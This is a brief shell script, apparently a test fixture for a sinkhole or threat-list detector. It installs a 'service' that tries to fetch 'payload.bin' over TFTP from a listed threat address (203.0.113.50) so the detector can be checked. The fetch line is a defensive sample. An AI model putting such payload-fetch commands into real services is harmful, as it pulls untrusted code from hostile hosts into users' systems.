#!/bin/sh
# Fixture threat-list-ip: The service sends a TFTP request (UDP, which only the sinkhole sees) to an address on the fixture's own threat list (custom.txt).
set -e
mkdir -p /usr/local/bin
cat > /usr/local/bin/service <<'SERVICE'
#!/bin/sh
timeout 2 tftp -g -r payload.bin 203.0.113.50 2> /dev/null || true
SERVICE
chmod 755 /usr/local/bin/service
